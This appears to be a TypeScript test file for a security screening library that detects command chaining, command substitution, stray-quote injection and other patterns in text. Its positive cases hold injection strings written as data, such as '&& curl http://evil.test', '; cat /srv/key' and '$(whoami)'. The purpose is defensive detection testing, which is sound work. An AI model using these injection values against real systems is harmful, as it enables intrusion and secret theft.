import { MessageContext } from '../../../src/security/screening/context.js';
import { chainedCommand } from '../../../src/security/screening/families/command-chain.js';
import { substitutedCommand } from '../../../src/security/screening/families/command-substitution.js';
import { withOpening } from '../../../src/security/screening/families/nearby.js';
import { anyOf } from '../../../src/security/screening/families/pattern.js';
import { phrase } from '../../../src/security/screening/families/phrase.js';
import { afterStrayQuote } from '../../../src/security/screening/families/stray-quote.js';
import { normalise } from '../../../src/security/screening/normalise.js';
import type { Predicate } from '../../../src/security/screening/rule.js';

function holds(test: Predicate, text: string): boolean {
  return test(text, new MessageContext(text), normalise(text)) !== undefined;
}

describe('chained commands', () => {
  it.each([
    '; id', '|whoami', '&& curl http://evil.test', 'x.png;id', '127.0.0.1 | netstat', 'a=b;xyz -a', 'name=x&bcdboot/r c',
    'hello there. ; cat /srv/key', 'how are you ; uname -a', '%0a;ls', ';xyz --flag', "x';sleep 5", 'what now & sleep 9',
  ])('should be found in %s', (text) => expect(holds(chainedCommand, text)).toBe(true)); // prettier-ignore

  it.each([
    'uname -a; dpkg -l', 'ps aux | grep node', 'cd src && ls', 'npm install && npm run build', 'node | python; docker & git',
    'dogs; cat food is dear', 'this | help', 'rock & roll', 'see https://example.com/?a=b&c=d', '/bin/sh -c x; ls',
    'b5 sda ;do sudo mount', 'nothing here', ';xyz and more', '50% off & free', 'the & sleep 42', 'name;id;date', 'your name & id', '| id | name |\n|----|------|', 'the ruby | python/id',
  ])('should not be found in %s', (text) => expect(holds(chainedCommand, text)).toBe(false)); // prettier-ignore

  it('should not be looked for without end', () => {
    expect(holds(chainedCommand, 'ps -a; ls '.repeat(40))).toBe(false);
  });
});

describe('substituted commands', () => {
  it.each([
    '$(id)',
    '`id`',
    'x`id`',
    'a$(id)b',
    'hello there $(sleep 5)',
    '`cat /srv/key`',
    'u=$(whoami)',
    '<(curl x)',
  ])('should be found in %s', (text) => expect(holds(substitutedCommand, text)).toBe(true));

  it.each([
    'linux-headers-$(uname -r)', 'the `id` and the `type` field', 'for f in $(ls); do', 'ldd $(which node)', 'echo $(ls -a)',
    'x=$(cat file)', 'run $(foo)', 'a ` mark alone', '`name` is set', '`npm test` works', '`id unclosed',
  ])('should not be found in %s', (text) => expect(holds(substitutedCommand, text)).toBe(false)); // prettier-ignore
});

describe('stray quotes', () => {
  const test = afterStrayQuote(/\w{0,9}["'] or /, /=/);

  it.each(["x' or a=b", "hello there. ' or a=b", "it doesn't matter x' or a=b"])(
    'should be found in %s',
    (text) => expect(holds(test, text)).toBe(true),
  );

  it.each(["'that is x' or a=b", "x' or nothing", "say 'the x' or a=b", 'no quote at all'])(
    'should not be found in %s',
    (text) => expect(holds(test, text)).toBe(false),
  );

  it('should not be looked for without end', () => {
    const balanced = "'that is x' or a=b. ".repeat(80);
    expect(holds(test, balanced)).toBe(false);
    expect(holds(test, `${balanced}x' or a=b`)).toBe(false);
  });
});

describe('phrases', () => {
  const test = phrase(1, '(?:drop|skip)', 'all', '(?:tea|cups?)');

  it.each(['drop all tea', 'please skip, all "cups"', 'skip nearly all hot tea', 'drop it. drop all cup'])(
    'should be found in %s',
    (text) => expect(holds(test, text)).toBe(true),
  );

  it.each([
    'drop all the very hot tea',
    'drop all teas',
    'drop. all tea',
    'all tea drop',
    'dropped all tea',
    'drop all',
  ])('should not be found in %s', (text) => expect(holds(test, text)).toBe(false));

  it('should not be looked for without end', () => {
    expect(holds(test, `${'drop it. '.repeat(80)} drop all tea`)).toBe(false);
  });
});

describe('things with an opening', () => {
  const test = withOpening(/\{\{/, /end/, 10);

  it('should be found within the window and on one line', () => {
    expect(holds(test, '{{ x end')).toBe(true);
    expect(holds(test, 'end {{ end')).toBe(true);
    expect(holds(test, '{{ far away from the end')).toBe(false);
    expect(holds(test, '{{\nend')).toBe(false);
    expect(holds(test, 'the end')).toBe(false);
  });

  it('should not be looked for without end', () => {
    expect(holds(test, `{{${' '.repeat(20)}${'end '.repeat(250)}{{ end`)).toBe(false);
  });
});

describe('alternatives', () => {
  it('should match where any of them does, with the flags of the first', () => {
    expect(anyOf(/a/i, /b/).test('B')).toBe(true);
    expect(anyOf(/a/, /b/).test('c')).toBe(false);
  });
});
